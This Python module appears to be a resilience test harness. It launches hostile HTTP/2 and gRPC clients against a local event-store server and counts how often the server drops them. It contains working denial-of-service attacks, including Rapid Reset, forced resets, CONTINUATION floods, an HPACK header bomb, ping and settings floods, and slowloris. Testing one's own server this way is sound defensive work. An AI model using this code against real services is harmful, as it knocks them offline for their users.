"""What hostile clients do, each for some seconds against a server's port, as a process of its own:

    attacks.py NAME GRPC_PORT HTTP_PORT TOPIC SECONDS

Prints a line of JSON: how often it did it, and how often the server closed the connection on it.
"""

import collections
import json
import os
import random
import socket
import sys
import time

import frames
from frames import Connection, call_headers, frame, literal, message

ATTACKS = {}
APPEND, SUBSCRIBE, READ = (f"/tidemark.v1.EventStore/{name}" for name in
                           ("Append", "Subscribe", "Read"))


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def field(number, value):
    """A length-delimited protobuf field."""
    out, size = bytearray((number << 3 | 2,)), len(value)
    while size > 127:
        out.append(size & 127 | 128)
        size >>= 7
    out.append(size)
    return bytes(out) + value


class Target:
    def __init__(self, grpc_port, http_port, topic, seconds):
        self.port, self.http_port, self.topic = grpc_port, http_port, topic.encode()
        self.end = time.monotonic() + seconds
        self.counts = collections.Counter()

    def goes_on(self):
        return time.monotonic() < self.end

    def append(self, bytes):
        """An AppendRequest that is valid but for its topic, which does not exist."""
        return field(1, b"not-" + self.topic) + \
            field(2, field(2, b"x") + field(7, b"d" * bytes))

    def read(self):
        return field(1, self.topic)

    def flood(self, begin, piece, pause_s=0, preface=frames.PREFACE + frames.settings(table=0)):
        """Sends begin() once a connection, then piece(n) for n = 0, 1, ... without end; reads so that
        answers do not stop the server; connects again when it was thrown out."""
        while self.goes_on():
            try:
                connection = Connection(self.port, preface, patience_s=2)
                self.counts["connections"] += 1
                connection.send(*begin(connection))
                n = 0
                while self.goes_on():
                    connection.send(piece(n))
                    self.counts["pieces"] += 1
                    n += 1
                    if n % 16 == 0:
                        connection.frames()
                    if pause_s:
                        time.sleep(pause_s)
            except TimeoutError:
                self.counts["stuck"] += 1
            except (OSError, EOFError):
                self.counts["thrown_out"] += 1
                time.sleep(0.001)
            finally:
                try:
                    self.counts["sent_bytes"] += connection.sent_bytes
                    connection.close()
                except UnboundLocalError:
                    pass

    def hold(self, count, make):
        """Opens `count` connections, make(n) each, and keeps them; opens again what was closed."""
        held = []
        while self.goes_on() and len(held) < count:
            try:
                held.append(make(len(held)))
                self.counts["connections"] += 1
            except OSError as error:
                self.counts[f"refused_{error.errno}"] += 1
                time.sleep(0.01)
        self.counts["held"] = len(held)
        print(json.dumps({"held": len(held)}), flush=True)
        while self.goes_on():
            time.sleep(0.05)
        for one in held:
            one.close()


# Many of something.

@attack
def connections(target):
    """10,000 connections of clients that said what HTTP/2 asks for, and then nothing."""
    target.hold(10_000, lambda n: Connection(target.port))


@attack
def half_handshakes(target):
    """4,000 connections that never say that they speak HTTP/2."""
    target.hold(4_000, lambda n: Connection(target.port, preface=frames.PREFACE[:n % 20]))


@attack
def unread_streams(target):
    """10,000 subscriptions of clients that allow no byte of an answer, on 20 connections."""
    def make(n):
        connection = Connection(
            target.port, frames.PREFACE + frames.settings(table=0, window=0))
        for stream in range(500):
            connection.send(frame(frames.HEADERS, frames.END_HEADERS, 2 * stream + 1,
                                  call_headers(SUBSCRIBE)),
                            frames.data_frames(2 * stream + 1, message(target.read())))
        return connection
    target.hold(20, make)


@attack
def never_receive(target):
    """200 replays with all the window there is, by clients that do not take a byte from the socket."""
    def make(n):
        connection = Connection(
            target.port, frames.PREFACE + frames.settings(window=frames.WINDOW_MAX) +
            frame(frames.WINDOW_UPDATE, 0, 0, (2**31 - 2**16).to_bytes(4, "big")))
        for stream in range(10):
            connection.send(frame(frames.HEADERS, frames.END_HEADERS, 2 * stream + 1,
                                  call_headers(READ)),
                            frames.data_frames(2 * stream + 1, message(target.read())))
        return connection
    target.hold(20, make)


@attack
def unread_config(target):
    """Calls of the control plane by clients that allow no byte of an answer: 2,000 on each of 20 connections."""
    headers = call_headers("/tidemark.v1.Operations/GetConfig")

    def make(n):
        connection = Connection(
            target.port, frames.PREFACE + frames.settings(table=0, window=0) +
            frame(frames.SETTINGS, frames.ACK, 0), patience_s=1)
        try:
            for stream in range(2000):
                connection.send(frame(frames.HEADERS, frames.END_HEADERS, 2 * stream + 1, headers),
                                frames.data_frames(2 * stream + 1, message(b"")))
        except OSError:
            target.counts["stuck"] += 1
        return connection
    target.hold(20, make)


def hold_half_requests(target, data_bytes, calls, patience_s):
    """Appends of which the last byte never comes, on each of 20 connections."""
    part = message(target.append(data_bytes))[:-1]

    def make(n):
        connection = Connection(target.port, patience_s=patience_s)
        try:
            for stream in range(calls):
                connection.send(frame(frames.HEADERS, frames.END_HEADERS, 2 * stream + 1,
                                      call_headers(APPEND)),
                                frames.data_frames(2 * stream + 1, part, end=False))
        except TimeoutError:
            target.counts["stuck"] += 1
        target.counts["sent_bytes"] += connection.sent_bytes
        return connection
    target.hold(20, make)


@attack
def half_requests(target):
    """Appends of 4 MB of which the last byte never comes: 100 on each of 20 connections."""
    hold_half_requests(target, 4_000_000, calls=100, patience_s=0.2)


@attack
def small_half_requests(target):
    """The same with 60 kB, which needs no further window: 2,000 on each of 20 connections."""
    hold_half_requests(target, 60_000, calls=2000, patience_s=0.5)


# Floods of frames.

@attack
def rapid_reset(target):
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    headers, body = call_headers(APPEND), message(target.append(100))

    def piece(n):
        out = []
        for stream in range(200 * n + 1, 200 * n + 201, 2):
            out.append(frame(frames.HEADERS, frames.END_HEADERS, stream, headers))
            out.append(frames.data_frames(stream, body))
            out.append(frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08"))
        return b"".join(out)
    target.flood(lambda _: [], piece)


# A client that confirmed our settings has to be held by other bounds than one that did not.
CONFIRMED = frames.PREFACE + frames.settings(table=0) + frame(frames.SETTINGS, frames.ACK, 0)


@attack
def confirmed_rapid_reset(target):
    """The same by a client that confirmed the server's settings."""
    headers, body = call_headers(APPEND), message(target.append(100))

    def piece(n):
        return b"".join(
            frame(frames.HEADERS, frames.END_HEADERS, stream, headers) +
            frames.data_frames(stream, body) + frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in range(200 * n + 1, 200 * n + 201, 2))
    target.flood(lambda _: [], piece, preface=CONFIRMED)


@attack
def confirmed_open_calls(target):
    """Calls without a request, up to what one connection may have, by such a client."""
    headers = call_headers(APPEND)
    target.flood(lambda _: [], lambda n: b"".join(
        frame(frames.HEADERS, frames.END_HEADERS, stream, headers)
        for stream in range(200 * n + 1, 200 * n + 201, 2)), preface=CONFIRMED)


@attack
def confirmed_list_topics(target):
    """Calls of the control plane as fast as they are taken, answers not waited for."""
    headers = call_headers("/tidemark.v1.Topics/ListTopics")
    target.flood(lambda _: [], lambda n: b"".join(
        frame(frames.HEADERS, frames.END_HEADERS, stream, headers) +
        frames.data_frames(stream, message(b""))
        for stream in range(20 * n + 1, 20 * n + 21, 2)), preface=CONFIRMED)


@attack
def made_resets(target):
    """Calls that the server has to reset: window updates of 0 on their stream (CVE-2025-8671)."""
    headers = call_headers(SUBSCRIBE)

    def piece(n):
        out = []
        for stream in range(200 * n + 1, 200 * n + 201, 2):
            out.append(frame(frames.HEADERS, frames.END_HEADERS, stream, headers))
            out.append(frame(frames.WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
        return b"".join(out)
    target.flood(lambda _: [], piece)


@attack
def open_calls(target):
    """Calls without end whose request never comes, without a bound on one connection."""
    headers = call_headers(APPEND)
    target.flood(lambda _: [], lambda n: b"".join(
        frame(frames.HEADERS, frames.END_HEADERS, stream, headers)
        for stream in range(200 * n + 1, 200 * n + 201, 2)))


@attack
def unknown_methods(target):
    """Calls of methods that there are not."""
    headers = call_headers("/tidemark.v1.EventStore/NoSuchMethod")
    target.flood(lambda _: [], lambda n: b"".join(
        frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, headers)
        for stream in range(200 * n + 1, 200 * n + 201, 2)))


@attack
def ping_flood(target):
    target.flood(lambda _: [], lambda n: frame(frames.PING, 0, 0, b"12345678") * 100)


@attack
def settings_flood(target):
    target.flood(lambda _: [], lambda n: frames.settings(window=65535 - n % 2) * 100)


@attack
def unread_pings(target):
    """Pings whose answers are not taken from the socket."""
    while target.goes_on():
        connection = Connection(target.port, patience_s=1)
        target.counts["connections"] += 1
        try:
            while target.goes_on():
                connection.send(frame(frames.PING, 0, 0, b"12345678") * 1000)
                target.counts["pieces"] += 1
        except TimeoutError:
            target.counts["stuck"] += 1
        except OSError:
            target.counts["thrown_out"] += 1
        connection.close()


@attack
def continuation_flood(target):
    """A header block that never ends."""
    target.flood(
        lambda _: [frame(frames.HEADERS, 0, 1, call_headers(APPEND))],
        lambda n: frame(frames.CONTINUATION, 0, 1, literal(f"x-{n}", "v" * 16000)))


@attack
def empty_continuations(target):
    """The same with frames that hold nothing."""
    target.flood(lambda _: [frame(frames.HEADERS, 0, 1, call_headers(APPEND))],
                 lambda n: frame(frames.CONTINUATION, 0, 1) * 500)


@attack
def empty_data(target):
    """Frames of data without data (CVE-2019-9518)."""
    target.flood(lambda _: [frame(frames.HEADERS, frames.END_HEADERS, 1, call_headers(APPEND))],
                 lambda n: frame(frames.DATA, 0, 1) * 500)


@attack
def window_updates(target):
    """Windows that grow byte by byte, and are shrunk below zero."""
    target.flood(
        lambda c: [frame(frames.HEADERS, frames.END_HEADERS, 1, call_headers(SUBSCRIBE)),
                   frames.data_frames(1, message(target.read()))],
        lambda n: frame(frames.WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 100 +
        frames.settings(window=n % 2 * 65535))


@attack
def window_overflow(target):
    """A window above what HTTP/2 allows: the connection or the stream ends, nothing else."""
    target.flood(lambda _: [frame(frames.HEADERS, frames.END_HEADERS, 1, call_headers(SUBSCRIBE)),
                            frames.data_frames(1, message(target.read()))],
                 lambda n: frame(frames.WINDOW_UPDATE, 0, n % 2, frames.WINDOW_MAX.to_bytes(4, "big")))


@attack
def priorities(target):
    target.flood(lambda _: [], lambda n: b"".join(
        frame(frames.PRIORITY, 0, 2 * k + 1, b"\0\0\0\0\xff") for k in range(200)))


# Headers.

@attack
def oversize_metadata(target):
    """A header of 1 MB a call."""
    big = call_headers(APPEND, None, ("x-big", "v" * 1_000_000))

    def piece(n):
        stream = 2 * n + 1
        pieces = [big[at:at + 16384] for at in range(0, len(big), 16384)]
        out = [frame(frames.HEADERS, 0, stream, pieces[0])]
        out += [frame(frames.CONTINUATION, 0, stream, one) for one in pieces[1:-1]]
        out.append(frame(frames.CONTINUATION, frames.END_HEADERS, stream, pieces[-1]))
        return b"".join(out)
    target.flood(lambda _: [], piece)


@attack
def header_bomb(target):
    """A header of 4 kB, named 16,000 times in a byte each: 64 MB from 20 kB."""
    begin = call_headers(APPEND)

    def piece(n):
        stream = 2 * n + 1
        block = begin + (literal("x-bomb", "v" * 3900, first=0x40) if n == 0 else b"") + b"\xbe" * 16000
        return frame(frames.HEADERS, 0, stream, block[:16384]) + \
            frame(frames.CONTINUATION, frames.END_HEADERS, stream, block[16384:])
    target.flood(lambda _: [], piece)


@attack
def many_headers(target):
    """100,000 headers of a few bytes in a call."""
    fields = b"".join(literal(f"x{n}", "") for n in range(1500))

    def piece(n):
        stream = 2 * n + 1
        return frame(frames.HEADERS, 0, stream, call_headers(APPEND)) + \
            frame(frames.CONTINUATION, 0, stream, fields[:16000]) * 60 + \
            frame(frames.CONTINUATION, frames.END_HEADERS, stream, b"")
    target.flood(lambda _: [], piece)


# Messages.

@attack
def huge_lengths(target):
    """Messages that say that they have 4 GB, and a little of them."""
    body = b"\0\xff\xff\xff\xff" + b"x" * 1000

    def piece(n):
        stream = 2 * n + 1
        return frame(frames.HEADERS, frames.END_HEADERS, stream, call_headers(APPEND)) + \
            frames.data_frames(stream, body, end=False)
    target.flood(lambda _: [], piece)


@attack
def large_appends(target):
    """Appends of 4 MB to a topic that there is not, as fast as they are taken; answers are not waited for."""
    body = message(target.append(4_000_000))

    def piece(n):
        return frame(frames.HEADERS, frames.END_HEADERS, 2 * n + 1, call_headers(APPEND)) + \
            frames.data_frames(2 * n + 1, body)
    target.flood(lambda _: [], piece)


@attack
def garbage(target):
    """Frames of random kinds, flags, streams and bytes."""
    chance = random.Random(int.from_bytes(os.urandom(4), "big"))

    def piece(n):
        return b"".join(
            frame(chance.randrange(12), chance.randrange(256), chance.choice([0, 1, 2, 3, 5, 2**31]),
                  chance.randbytes(chance.choice([0, 4, 5, 6, 8, 100])))
            for _ in range(5))
    target.flood(lambda _: [], piece)


@attack
def churn(target):
    """Connections that come and go at once, with a reset instead of a goodbye."""
    while target.goes_on():
        try:
            connection = Connection(target.port)
            connection.send(frame(frames.HEADERS, frames.END_HEADERS, 1, call_headers(SUBSCRIBE)),
                            frames.data_frames(1, message(target.read())))
            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            connection.close()
            target.counts["connections"] += 1
        except OSError:
            target.counts["refused"] += 1


# The HTTP port.

@attack
def slow_loris(target):
    """200 requests that come a byte at a time, and 200 connections that send nothing."""
    open_now = {}
    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"z" * 100_000
    while target.goes_on():
        for n in range(400):
            try:
                if n not in open_now:
                    open_now[n] = [socket.create_connection(("127.0.0.1", target.http_port), 1), 0]
                    open_now[n][0].setblocking(False)
                    target.counts["connections"] += 1
                connection, at = open_now[n]
                if n < 200:
                    connection.send(request[at:at + 1])
                    open_now[n][1] += 1
                    target.counts["pieces"] += 1
            except OSError:
                if n in open_now:
                    target.counts["thrown_out"] += 1
                    open_now.pop(n)[0].close()
        time.sleep(0.05)


def main():
    name, grpc_port, http_port, topic, seconds = sys.argv[1:]
    target = Target(int(grpc_port), int(http_port), topic, float(seconds))
    ATTACKS[name](target)
    print(json.dumps(target.counts), flush=True)


if __name__ == "__main__":
    os.nice(10)  # The machine's processors are for the server and its honest clients first.
    main()
